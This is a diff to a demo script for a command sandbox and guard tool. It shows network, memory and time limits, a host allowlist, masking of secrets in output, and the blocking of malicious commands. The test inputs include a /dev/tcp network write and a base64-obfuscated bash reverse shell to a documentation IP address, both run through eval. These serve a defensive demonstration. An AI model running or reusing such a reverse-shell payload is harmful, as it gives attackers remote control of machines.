@@ -27,6 +27,18 @@ show "There is no network" "" 'bash -c "echo hello > /dev/tcp/192.0.2.1/80"'
 show "Memory has a limit for the whole tree" " --memory 64m" 'head -c 300m /dev/zero | tail > /dev/null'
 show "Time has a limit" " --timeout 500ms" 'sleep 60'
 
+show "A network that the policy names, and no other" " --net allowlist --allow-host *.example.org" \
+    'python3 -c "import urllib.request as u; u.urlopen(\"http://not-allowed.example.com/\")" 2>&1 | tail -1'
+show "Secrets in output are masked" "" 'echo "key: AKIA""2E0A8F3B244C9986"'
+
+printf 'enforcement: {enabled: true}\n' > "$dir/policy.yaml"
+vet() { # title, command
+    printf '\n%s%s%s\n$ bawn guard -- sh -c %s\n' "$bold" "$1" "$plain" "'$2'"
+    "$bawn" guard --policy "$dir/policy.yaml" -- sh -c "$2" 2>&1 | sed 's/^/    /'
+}
+vet "guard lets through what is safe" 'ls -a'
+vet "and blocks what is malicious, however it is written" 'eval "$(echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvOTkgMD4mMQ== | base64 -d)"'
+
 printf '\n%sNothing changed outside:%s %s\n' "$bold" "$plain" "$(cat "$dir/outside/file")"
 printf '\n%sAnd all of it is on record%s\n$ bawn audit show\n' "$bold" "$plain"
 "$bawn" audit show | sed 's/^/    /'
